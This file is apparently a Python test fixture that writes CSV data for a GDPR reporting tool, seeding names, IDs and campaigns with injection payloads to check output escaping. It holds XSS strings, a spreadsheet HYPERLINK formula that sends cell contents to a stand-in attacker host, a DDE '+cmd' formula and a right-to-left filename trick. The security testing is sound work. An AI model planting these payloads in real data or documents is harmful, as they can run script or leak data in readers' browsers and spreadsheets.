"""A small, contract-valid source folder (SPEC §3) whose text values are hostile.

Every free-text value that can reach an output (customer names and addresses, customer, event, send,
upload and request IDs, processor names, actor IDs, ticket IDs, campaign IDs) carries one of:

- HTML/JS injection: ``<script>``, ``<img onerror>``, ``"><svg onload>``, ``javascript:`` links, and a
  ``</script>`` break-out; each payload sets ``window.__pwned`` if it ever runs;
- spreadsheet formulas (OWASP CSV injection): values starting with ``=``, ``+``, ``-``, ``@``, tab, CR;
- CSV hazards: quotes, commas and embedded newlines (RFC 4180 quoting), right-to-left override
  (U+202E), and 10 kB strings.

The rows are chosen so that hostile values show up in findings: undeclared processors (XB-001),
declared processors out of country or scope (XB-002/003/004/005), retention breaches (RET-001..005),
marketing after objection or erasure and personalised sends (MKT-001..003), a late request (DSR-001)
and a consumer with a VAT number (MIN-001).

Personal values (customers' names, addresses, e-mails, phones, VAT numbers) carry a unique marker
``PII<nn>`` so that a scan of the outputs for them cannot be confused with the non-personal hostile
values (processor names, IDs) that the report is allowed to show.

Run ``python tests/hostile.py OUT`` to write the folder by hand.
"""

from __future__ import annotations

import csv
import sys
from dataclasses import dataclass, field
from pathlib import Path

MONTH = "2026-10"  # the reporting month the rows are built around (as_of = 2026-11-01)

# -- payloads -----------------------------------------------------------------------------------
SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
SVG = '"><svg onload=window.__pwned=1>'
JS_URL = "javascript:window.__pwned=1"
JS_LINK = '<a href="javascript:window.__pwned=1">click me</a>'
BREAKOUT = "</script><script>window.__pwned=1</script>"  # closes a JSON-in-<script> block if not escaped
MARKDOWN_LINK = "[click](javascript:window.__pwned=1)"

#: Values that must never become markup or script anywhere they are shown.
XSS_PAYLOADS = (SCRIPT, IMG, SVG, JS_URL, JS_LINK, BREAKOUT, MARKDOWN_LINK)

#: The element-level signatures of the payloads (what would exist in the DOM if one were not escaped).
PWNED = "__pwned"

HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"click")'
FORMULAS = (HYPERLINK, "=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1")

QUOTED = 'evil, "corp"\nsecond line, with comma'
RLO = "\u202eexe.gnp"  # shows as "png.exe" in a right-to-left context
LONG = SCRIPT + "L" * 10_000  # a 10 kB value


@dataclass
class HostileSet:
    """What build() wrote: the folder, the month, and the values a test may look for."""

    source: Path
    month: str = MONTH
    processors: list[str] = field(default_factory=list)  # undeclared processors (XB-001)
    actors: list[str] = field(default_factory=list)
    tickets: list[str] = field(default_factory=list)
    campaigns: list[str] = field(default_factory=list)
    ids: list[str] = field(default_factory=list)  # hostile customer, event, send, upload, request IDs
    formulas: tuple[str, ...] = FORMULAS
    payloads: tuple[str, ...] = XSS_PAYLOADS


def _write(path: Path, header: list[str], rows: list[dict[str, object]]) -> None:
    """RFC 4180 CSV: quote only where needed (commas, quotes, newlines), CRLF record ends."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
        w.writerow(header)
        for row in rows:
            unknown = set(row) - set(header)
            assert not unknown, f"{path.name}: unknown columns {unknown}"
            w.writerow(["" if row.get(c) is None else _text(row.get(c)) for c in header])


def _text(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _columns(table: str) -> list[str]:
    from gdpr_analytics.ingest.contract import TABLES

    return TABLES[table].column_names


def _person(n: int, payload: str) -> dict[str, object]:
    """Personal data of customer n: hostile, and each value unique thanks to the PII<nn> marker."""
    return {
        "first_name": f"{payload}Anna-PII{n:02d}",
        "last_name": f'{IMG}Peeters "de Smet", PII{n:02d}',
        "street": f'Kerkstraat {n}, bus "3"\n{SVG}PII{n:02d}',
        "postal_code": f"{1000 + n}",
        "city": f"{SCRIPT}Brussel-PII{n:02d}",
        "country_code": "BE",
        "email": f"anna.pii{n:02d}+{SVG}@example.com",
        "birth_date": f"19{60 + n:02d}-0{1 + n % 9}-{10 + n:02d}",
        "gender": "FMX"[n % 3],
        "phone": f"=+32 2 555 {n:04d}",
        "mobile": f"+32 470 {n:02d} 12 34",
        "vat_number": f"BE0{n:03d}.{n:03d}.{n:03d}",
    }


def build(out: Path) -> HostileSet:
    """Write customers, orders, uploads, access_log, marketing_sends and dsr_requests CSVs into out."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    hs = HostileSet(source=out)

    # -- customers ----------------------------------------------------------------------------
    hostile_customer = f"C-{IMG}"
    dash_customer = "-C-0008"
    rlo_customer = f"C-{RLO}"
    customers = [
        # 1: last order 2021-12 -> RET-001; consumer with a VAT number -> MIN-001; upload -> RET-002
        dict(customer_id="C-0001", account_type="consumer", created_at="2020-01-05T10:00:00Z", **_person(1, SCRIPT)),
        # 2: erased but personal data kept -> RET-004; send after erasure -> MKT-003; access -> RET-005
        dict(customer_id="C-0002", account_type="pro", created_at="2020-02-01T09:00:00+02:00",
             erased_at="2025-06-30T00:00:00Z", **_person(2, IMG)),
        # 3: objected to marketing -> MKT-001
        dict(customer_id="C-0003", account_type="consumer", created_at="2024-03-01T08:00:00Z",
             marketing_objection_at="2026-01-15T12:00:00Z", **_person(3, SVG)),
        # 4: no orders, old account -> RET-003 (and the 10 kB city)
        dict(customer_id="C-0004", account_type="consumer", created_at="2021-03-01T08:00:00Z",
             **{**_person(4, JS_LINK), "city": f"Brussel-PII04{LONG}"}),
        # 5: active customer with a personalised send -> MKT-002, late request -> DSR-001
        dict(customer_id="C-0005", account_type="pro", created_at="2025-05-05T08:00:00Z", **_person(5, BREAKOUT)),
        # 6: hostile customer ID, last order 2022-02 -> RET-001
        dict(customer_id=hostile_customer, account_type="consumer", created_at="2019-06-01T08:00:00Z",
             **_person(6, MARKDOWN_LINK)),
        # 7: right-to-left override in the ID, old order -> RET-001
        dict(customer_id=rlo_customer, account_type="consumer", created_at="2019-07-01T08:00:00Z",
             **_person(7, RLO)),
        # 8: formula-like ID, no orders -> RET-003
        dict(customer_id=dash_customer, account_type="consumer", created_at="2020-08-01T08:00:00Z",
             **_person(8, "=1+1 ")),
        # 9: ordinary active customer, so the statistics have something normal to show
        dict(customer_id="C-0009", account_type="consumer", created_at="2025-01-01T08:00:00Z",
             **{**_person(9, ""), "vat_number": None}),
    ]
    hs.ids += [hostile_customer, dash_customer, rlo_customer]
    for c in customers:
        if c["account_type"] == "consumer" and c["customer_id"] not in ("C-0001",):
            c["vat_number"] = None
    _write(out / "customers.csv", _columns("customers"), customers)

    # -- orders -------------------------------------------------------------------------------
    orders = [
        dict(order_id="O-0001", customer_id="C-0001", ordered_at="2021-12-15T10:00:00Z", product="mystamp",
             channel="web", quantity=2, total_eur="19.90", status="shipped"),
        dict(order_id="O-0002", customer_id="C-0002", ordered_at="2021-01-10T10:00:00Z", product="mystamp_pro",
             channel="app", quantity=100, total_eur="450.00", status="paid"),
        dict(order_id="O-0003", customer_id="C-0003", ordered_at="2026-09-20T10:00:00Z", product="mystamp",
             channel="web", quantity=1, total_eur="9.95", status="shipped"),
        dict(order_id="O-0005", customer_id="C-0005", ordered_at="2026-10-02T10:00:00Z", product="mystamp_pro",
             channel="web", quantity=50, total_eur="240.00", status="paid"),
        dict(order_id=f"O-{SCRIPT}", customer_id=hostile_customer, ordered_at="2022-02-01T10:00:00Z",
             product="mystamp", channel="app", quantity=1, total_eur="9.95", status="refunded"),
        dict(order_id="=1+1", customer_id=rlo_customer, ordered_at="2022-03-01T10:00:00Z",
             product="mystamp", channel="web", quantity=3, total_eur="29.85", status="cancelled"),
        dict(order_id="O-0009", customer_id="C-0009", ordered_at="2026-10-12T10:00:00Z", product="mystamp",
             channel="web", quantity=4, total_eur="39.80", status="paid"),
    ]
    _write(out / "orders.csv", _columns("orders"), orders)

    # -- uploads ------------------------------------------------------------------------------
    upload_script, upload_formula = f"U-{SCRIPT}", "@SUM(1)"
    uploads = [
        dict(upload_id=upload_script, customer_id="C-0001", order_id="O-0001", uploaded_at="2021-12-14T10:00:00Z",
             kind="photo", depicts_persons=True, size_bytes=2_000_000),
        dict(upload_id=upload_formula, customer_id="C-0002", order_id="O-0002", uploaded_at="2021-01-09T10:00:00Z",
             kind="image", depicts_persons=True, size_bytes=1_500_000),
        dict(upload_id="U-0005", customer_id="C-0005", order_id="O-0005", uploaded_at="2026-10-01T10:00:00Z",
             kind="photo", depicts_persons=False, size_bytes=800_000),
        dict(upload_id=f"U-{QUOTED}", customer_id=rlo_customer, order_id=None, uploaded_at="2022-02-27T10:00:00Z",
             kind="text", depicts_persons=None, size_bytes=120),
    ]
    hs.ids += [upload_script, upload_formula, f"U-{QUOTED}"]
    _write(out / "uploads.csv", _columns("uploads"), uploads)

    # -- access_log ---------------------------------------------------------------------------
    undeclared = [SCRIPT, IMG, SVG, JS_URL, JS_LINK, BREAKOUT, MARKDOWN_LINK, *FORMULAS, QUOTED, RLO, LONG]
    hs.processors = list(undeclared)
    countries = ["IN", "US", "BE", "CN", "IN", "RU", "BE", "IN", "US", "FR", "IN", "BR", "IN", "DE", "IN", "CN", "US"]
    events: list[dict[str, object]] = []
    actors = [SVG, "=1+1", JS_URL, IMG, SCRIPT, "@SUM(1)", "-2+3", "+cmd", BREAKOUT, QUOTED, RLO, LONG, HYPERLINK]
    tickets = [SCRIPT, IMG, SVG, JS_URL, JS_LINK, HYPERLINK, "=1+1", "+cmd", "@SUM(1)", "-2+3", "\t=1+1",
               QUOTED, RLO, LONG]
    hs.actors, hs.tickets = list(actors), list(tickets)

    def event(eid: str, day: int, processor: str, actor: str, country: str, action: str, resource: str,
              customer: str | None = None, records: int = 1, ticket: str | None = None, month: str = MONTH,
              hour: int = 10) -> None:
        events.append(dict(event_id=eid, occurred_at=f"{month}-{day:02d}T{hour:02d}:{day % 60:02d}:00Z",
                           processor=processor, actor_id=actor, source_country=country,
                           source_ip=f"203.0.113.{len(events) % 250}", action=action, resource=resource,
                           customer_id=customer, record_count=records, ticket_id=ticket))

    # XB-001: one event per undeclared (hostile) processor; most from outside the EEA, some bulk exports
    for i, proc in enumerate(undeclared):
        action = "export" if i % 4 == 1 else ("read", "write", "admin")[i % 3]
        resource = ("customers", "orders", "uploads", "marketing", "requests", "infrastructure")[i % 6]
        event(f"E-X{i:02d}", 1 + i, proc, actors[i % len(actors)], countries[i % len(countries)], action, resource,
              customer="C-0005" if resource == "customers" else None, records=5000 if action == "export" else 3,
              ticket=tickets[i % len(tickets)] if i % 3 else None)
    # XB-002: declared processor from an undeclared third country, hostile actor and ticket
    event(f"E-{SCRIPT}", 3, "infosys", SCRIPT, "CN", "admin", "infrastructure", ticket=HYPERLINK)
    event("=HYPERLINK(\"http://evil.example\")", 4, "aws", IMG, "US", "read", "infrastructure", ticket=JS_LINK)
    # XB-003: out of scope; XB-004: bulk export from India; XB-005: no ticket from India
    event("E-S01", 5, "tcs", "@SUM(1)", "IN", "admin", "infrastructure", ticket=SCRIPT)
    event("E-S02", 6, "tcs", "+cmd", "IN", "export", "customers", records=2500, ticket="+cmd")
    event("E-S03", 7, "tcs", "-2+3", "IN", "read", "customers", customer="C-0003", ticket=None)
    event("E-S04", 8, "infosys", QUOTED, "IN", "delete", "customers", customer="C-0005", ticket=QUOTED)
    event("-E-S05", 9, "infosys", RLO, "IN", "admin", "infrastructure", ticket=None)
    # RET-005: access to an erased customer's record
    event(f"E-{IMG}", 10, "bpost", JS_URL, "BE", "read", "customers", customer="C-0002", ticket=RLO)
    event("E-R02", 11, "tcs", LONG, "IN", "read", "uploads", customer="C-0002", ticket=LONG)
    # ordinary traffic, in the month and the months before (for trends)
    normal = [("tcs", "IN", "read", "orders"), ("infosys", "IN", "admin", "infrastructure"),
              ("aws", "IE", "write", "infrastructure"), ("bpost", "BE", "read", "customers")]
    for m, month in enumerate(("2026-08", "2026-09", MONTH)):
        for k, (proc, country, action, resource) in enumerate(normal):
            for rep in range(2):
                event(f"E-N{m}{k}{rep}", 12 + k * 4 + rep, proc, f"{proc}-ops-{rep}", country, action, resource,
                      customer="C-0009" if resource == "customers" else None, records=1 + rep,
                      ticket=f"CHG-{m}{k}{rep}", month=month)
    hs.ids += [f"E-{SCRIPT}", "=HYPERLINK(\"http://evil.example\")", "-E-S05", f"E-{IMG}"]
    _write(out / "access_log.csv", _columns("access_log"), events)

    # -- marketing_sends ----------------------------------------------------------------------
    campaigns = [HYPERLINK, SCRIPT, IMG, SVG, JS_URL, "+cmd", "@SUM(1)", "-2+3", QUOTED, RLO, LONG, JS_LINK]
    hs.campaigns = list(campaigns)
    sends = []
    targets = [("C-0003", False), ("C-0002", False), ("C-0005", True), ("C-0009", True), ("C-0003", True),
               (hostile_customer, False)]
    for i, campaign in enumerate(campaigns):
        customer, personalised = targets[i % len(targets)]
        send_id = f"S-{i:02d}" if i % 4 else (f"S-{SVG}" if i == 0 else ("=1+1" if i == 4 else "@S-08"))
        sends.append(dict(send_id=send_id, customer_id=customer, sent_at=f"{MONTH}-{1 + i:02d}T07:30:00Z",
                          channel=("post", "email", "phone", "ad_platform", "onsite")[i % 5],
                          campaign_id=campaign, personalised=personalised))
    hs.ids += [f"S-{SVG}", "=1+1", "@S-08"]
    _write(out / "marketing_sends.csv", _columns("marketing_sends"), sends)

    # -- dsr_requests -------------------------------------------------------------------------
    requests = [
        dict(request_id=f"R-{SVG}", customer_id="C-0005", received_at="2026-08-01T09:00:00Z", right="access",
             extended=False, closed_at=None, outcome=None),  # open past its deadline -> DSR-001
        dict(request_id="=1+1", customer_id="C-0003", received_at="2026-08-20T09:00:00Z", right="objection",
             extended=False, closed_at="2026-10-05T09:00:00Z", outcome="fulfilled"),  # closed late in M
        dict(request_id=f"R-{SCRIPT}", customer_id=None, received_at="2026-10-10T09:00:00Z", right="erasure",
             extended=True, closed_at=None, outcome=None),  # open, within its deadline
    ]
    hs.ids += [f"R-{SVG}", f"R-{SCRIPT}"]
    _write(out / "dsr_requests.csv", _columns("dsr_requests"), requests)
    # exported at the end of the month: the data end (SPEC §10) covers it, though its last row is earlier
    (out / "source.yml").write_text("exported_at: 2026-11-01T00:00:00Z\n", encoding="utf-8")
    return hs


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile.py OUT_DIR")
    built = build(Path(sys.argv[1]))
    print(f"wrote a hostile source for {built.month} to {built.source}")
